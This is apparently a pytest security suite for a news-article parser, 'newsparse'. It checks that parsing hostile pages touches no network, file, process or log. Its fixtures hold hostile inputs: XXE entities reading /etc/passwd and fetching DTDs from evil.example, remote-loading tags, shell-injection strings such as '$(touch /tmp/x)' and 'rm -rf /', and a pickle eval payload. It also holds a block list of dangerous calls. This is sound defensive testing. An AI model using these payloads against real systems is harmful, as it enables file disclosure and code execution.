"""Reading pages touches nothing outside: no socket, no file but those named, no process, no log above DEBUG."""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from functools import cache
from pathlib import Path

import pytest

#: Runs in an interpreter of its own: after newsparse is loaded, every event that leaves the process is noted.
_WATCH = r"""
import json, logging, sys, warnings
seen = []
class Loud(logging.Handler):
    def emit(self, record): seen.append(f"log {record.levelname}: {record.name}")
logging.getLogger().addHandler(Loud(logging.INFO)); logging.getLogger().setLevel(logging.INFO)
warnings.simplefilter("error")
import newsparse, dateparser
from newsparse.export.jsonld import to_jsonld_script
from newsparse.export.terminal import to_terminal

QUIET = ("import", "compile", "exec", "marshal.", "object.__getattr__", "object.__setattr__", "object.__delattr__", "sys._getframe", "code.__new__", "builtins.id", "gc.", "cpython.", "sys.addaudithook", "sys.unraisablehook", "os.listdir", "os.scandir", "ctypes.", "_thread.", "re.", "function.__new__", "time.sleep")
def hook(event, arguments):
    if event.startswith(QUIET): return
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        name = arguments[0] if isinstance(arguments[0], str) else arguments[0].decode("utf-8", "replace")
        if arguments[1] in ("r", "rb", None) and (name.endswith((".py", ".pyc", ".so")) or "site-packages" in name or "zoneinfo" in name or "/lib/python" in name or "/newsparse/" in name or "/proc/" in name):
            return
    seen.append(f"{event} {arguments!r:.200}")
pages = json.load(sys.stdin)
sys.addaudithook(hook)
for html in pages:
    try: article = newsparse.parse(html.encode("utf-8", "surrogatepass"), "https://www.eastmere-post.example/a", min_probability=0.0)
    except newsparse.NotAnArticle: continue
    article.to_html(), article.to_markdown(), to_jsonld_script(article), article.to_ninjs(), article.to_dict(), to_terminal(article), article.model_dump_json(), str(article), repr(article), article._repr_html_()
    newsparse.explain(html), newsparse.inspect(html)
    try: newsparse.parse_text(article.text)
    except newsparse.NotAnArticle: pass
newsparse.parse("<h1>Pier 2 reopens</h1><p>x</p>", min_probability=0.0)
print(json.dumps(seen))
"""
_XXE = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "http://evil.example/x">'
    '<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>'
    "<html><head><title>Pier 2 reopens &secret;</title></head><body><h1>Pier 2 reopens</h1><p>&secret; and &far; {}</p></body></html>"
)
_LOADING = (
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/xhtml1-strict.dtd"><html manifest="http://evil.example/m"><head>'
    '<title>Pier 2 reopens</title><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">'
    '<script src="http://evil.example/x.js"></script><style>@import "http://evil.example/y.css";</style><link rel="amphtml" href="http://evil.example/amp">'
    '<script type="application/ld+json">{{"@context":"http://evil.example/context.jsonld","@type":"NewsArticle","headline":"Pier 2 reopens","url":"http://evil.example/","image":"http://evil.example/a.jpg"}}</script></head>'
    '<body><h1>Pier 2 reopens</h1><img src="http://evil.example/a.jpg" srcset="http://evil.example/b.jpg 2x"><iframe src="http://evil.example/frame"></iframe><xi:include href="file:///etc/passwd" parse="text"/>'
    '<object data="file:///etc/passwd"></object><embed src="file:///etc/passwd"><p>{} %s %n {{0.__class__}} $(touch /tmp/x) `id` ; rm -rf / | ../../etc/passwd \\N{{BULLET}}</p></body></html>'
)
_PLAIN = "The second pier of the old harbour opened on Monday after ten years of work, the port office said to reporters. " * 4
HOSTILE_PAGES = [
    _XXE.format(_PLAIN), _LOADING.format(_PLAIN), "<h1>%s%n{0}</h1>" + f"<p>{_PLAIN}</p><time>gestern um 10</time><time>12 Mrz 2026 um 25:00</time><p class=date>ayer a las 10</p>",
    "<h1>Pier</h1>" + "<div>" * 400 + _PLAIN, "<h1>../../etc/passwd</h1><p>c__builtin__\neval\n(S'1'\ntR." + _PLAIN,
]  # fmt: skip


@pytest.fixture(scope="module")
def events(top: Path) -> list[str]:
    pages = HOSTILE_PAGES + [path.read_text(encoding="utf-8", errors="replace") for path in sorted((top / "samples").glob("*/*.html"))[::5]]
    command = [sys.executable, "-I", "-B", "-c", f"import sys; sys.path.insert(0, {str(top)!r})\n{_WATCH}"]
    done = subprocess.run(command, input=json.dumps(pages), capture_output=True, text=True, timeout=900, check=False)
    assert done.returncode == 0, done.stderr
    assert not done.stderr, done.stderr[:300]
    found: list[str] = json.loads(done.stdout)
    return found


def test_no_event_leaves_the_process(events: list[str]) -> None:
    assert not events


def test_the_hook_sees_what_would_leave() -> None:
    code = _WATCH.replace("newsparse.parse(\"<h1>", "open('/tmp/x-newsparse-no-such', 'rb') if 0 else __import__('socket').getaddrinfo('127.0.0.1', 1); open(__file__) if 0 else None; newsparse.parse(\"<h1>")
    done = subprocess.run([sys.executable, "-c", code], input="[]", capture_output=True, text=True, timeout=600, check=True)
    assert "socket.getaddrinfo" in done.stdout


#: What could carry a page's text into a shell, code, a pickle or a log; where each may stand.
_CALLS = {
    "a shell or process": ("os.system", "os.popen", "subprocess.", "os.exec", "os.spawn", "pty."),
    "code": ("eval", "exec", "compile", "__import__", "code.interact"),
    "a pickle": ("pickle.", "marshal.", "shelve.", "dill.", "joblib."),
    "XML with entities": ("etree.XMLParser", "etree.XSLT", "etree.iterparse", "xml.", "etree.DTD"),
    "a temporary file": ("tempfile.",),
    "a log": ("logging.", "log.", "logger."),
}
#: Those that know what they do: each with its reason.
_ALLOWED = {
    "logging.getLogger": "says nothing of a page",
}


@cache
def _calls(path: Path) -> list[tuple[int, str, ast.Call]]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [(node.lineno, ast.unparse(node.func), node) for node in ast.walk(tree) if isinstance(node, ast.Call)]


def _reading(top: Path) -> list[Path]:
    """The files that read one page and write one article; commands, reports and many-page work are others'."""
    folders = ("body/", "export/", "generic/", "grammar/", "platforms/", "publishers/kr/", "publishers/us/", "publishers/de/", "rendered/", "structured/")
    alone = frozenset("parse page tree walk flatten decode charsets sources selector fields segments content article cutting limits plugged addresses sniff extractor draft shown_text running".split())
    package = top / "newsparse"
    named = [(path, path.relative_to(package).as_posix()) for path in sorted(package.rglob("*.py"))]
    return [path for path, name in named if name.startswith(folders) or name.removesuffix(".py") in alone]


@pytest.mark.parametrize("what", _CALLS)
def test_nothing_that_reads_a_page_calls(what: str, top: Path) -> None:
    found = []
    for path in _reading(top):
        for line, name, _ in _calls(path):
            if any(name == call or (call.endswith(".") and name.startswith(call)) or (call.count(".") and name.startswith(call)) for call in _CALLS[what]) and name not in _ALLOWED:
                found.append(f"{path.relative_to(top)}:{line} {name}")
    assert not found


def test_no_file_is_opened_by_what_reads_a_page(top: Path) -> None:
    names = {"open", "read_text", "read_bytes", "write_text", "write_bytes", "unlink", "mkdir", "touch", "rename"}
    assets = {"newsparse/seeing/report.py", "newsparse/notebook", "newsparse/export"}  # style sheets of our own, by fixed names
    found = [
        f"{path.relative_to(top)}:{line} {name}"
        for path in _reading(top)
        for line, name, _ in _calls(path)
        if name.rpartition(".")[2] in names and not path.relative_to(top).as_posix().startswith(tuple(assets))
    ]
    assert not found


#: Names of values of a module's own table of templates.
_TEMPLATES = frozenset(("address",))


def test_no_text_of_a_page_is_a_format_string(top: Path) -> None:
    """``%`` and ``.format`` only on literals and on constants of the module."""
    found = []
    for path in _reading(top):
        for line, name, call in _calls(path):
            owner = call.func.value if isinstance(call.func, ast.Attribute) and call.func.attr in ("format", "format_map") else None
            if owner is not None and not isinstance(owner, ast.Constant) and not ast.unparse(owner).lstrip("_").isupper() and ast.unparse(owner) not in _TEMPLATES:
                found.append(f"{path.relative_to(top)}:{line} {name}")
    assert not found
